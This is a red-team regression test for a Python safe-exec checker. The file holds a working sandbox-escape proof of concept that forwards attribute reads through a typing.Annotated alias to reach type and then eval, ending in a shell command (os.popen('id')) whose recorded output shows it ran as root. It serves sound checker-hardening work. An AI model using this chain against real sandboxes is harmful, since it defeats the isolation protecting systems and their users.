# expect: reject unbound
# line: 20
# verified: reaches its goal under plain python3 (3.11) in a temp dir (eval obtained, id ran)
# why: thirteenth red team (third round), family G: a library generic that hands its index back (Annotated forwards reads, Union of one is the class, InitVar keeps it as .type)

# Mechanism: typing.Annotated[collections.Counter, x] is a _AnnotatedAlias whose __origin__ is Counter and whose __getattr__ forwards every non-dunder read to it; the unbound rule allows the class as 'an index of a library generic anywhere' and does not count typing.Annotated[...] as a library class, so .copy read through the alias is Counter.copy unjudged (carried in a list, a place the new rule refuses for the class itself)
# Goal reached: the builtin type by value (Counter.copy(P)), then eval by value (typing._GenericAlias + deepcopy, 11b family A end gadget), called: runs id
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD b170093
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

class P:
    pass

ks = [typing.Annotated[collections.Counter, "meta"]]  # in a list: nothing judges the alias as the class it forwards to
K = ks[0]
T = K.copy(P)                                       # _AnnotatedAlias forwards .copy to its origin: Counter.copy(P) -> type
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))   # 11b family A end gadget
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
